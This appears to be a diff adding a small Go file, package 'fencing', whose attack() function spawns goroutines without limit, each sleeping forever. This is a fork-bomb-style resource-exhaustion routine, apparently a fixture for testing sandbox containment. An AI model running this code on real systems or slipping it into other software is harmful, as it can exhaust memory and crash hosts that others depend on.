@@ -1,0 +1,14 @@
+package fencing
+
+import "syscall"
+
+func attack() {
+	for {
+		go func() {
+			forever := syscall.Timespec{Sec: 1 << 30}
+			for {
+				syscall.Nanosleep(&forever, nil)
+			}
+		}()
+	}
+}
